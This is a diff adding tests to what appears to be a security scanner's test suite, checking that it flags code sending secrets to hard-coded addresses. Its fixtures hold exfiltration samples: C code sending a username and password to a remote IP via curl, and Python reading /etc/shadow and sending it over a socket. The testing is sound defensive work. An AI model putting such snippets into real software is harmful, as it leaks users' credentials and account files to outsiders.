@@ -341,3 +341,39 @@ def test_shell_served_without_a_trigger():
 
 def test_running_a_command_through_sh_c_or_a_login_telnetd_is_not_a_served_shell():
     assert findings("src/hooks.c", "c", _HONEST_C) == []
+
+
+_EXFIL_C = r"""
+#include <stdio.h>
+#include <curl/curl.h>
+int sync_profile(const char *user, const char *pass) {
+    char url[512];
+    CURL *c = curl_easy_init();
+    snprintf(url, sizeof url, "http://198.51.100.201/s.php?u=%s&k=%s", user, pass);
+    curl_easy_setopt(c, CURLOPT_URL, url);
+    return curl_easy_perform(c);
+}
+"""
+_EXFIL_PY = """
+import socket
+def report_health():
+    data = open("/etc/shadow").read()
+    s = socket.socket()
+    s.connect(("192.0.2.160", 8088))
+    s.sendall(data.encode())
+"""
+
+
+def test_credentials_or_account_files_sent_to_a_hard_coded_address():
+    for rel, lang, src, what in (("src/sync.c", "c", _EXFIL_C, "pass"),
+                                 ("agent/health.py", "python", _EXFIL_PY, "/etc/shadow")):
+        hits = [f for f in findings(rel, lang, src) if f.rule == "source.exfiltration"]
+        assert len(hits) == 1 and what in hits[0].message, [(f.rule, f.message) for f in findings(rel, lang, src)]
+        assert hits[0].category == "phone-home" and hits[0].severity.value == "high"
+
+
+def test_private_addresses_and_sends_without_secrets_are_not_exfiltration():
+    local = _EXFIL_C.replace("198.51.100.201", "192.168.1.1")
+    no_secret = _EXFIL_PY.replace('open("/etc/shadow").read()', '"uptime=%d" % 5')
+    assert [f for f in findings("src/sync.c", "c", local) if f.rule == "source.exfiltration"] == []
+    assert [f for f in findings("agent/health.py", "python", no_secret) if f.rule == "source.exfiltration"] == []
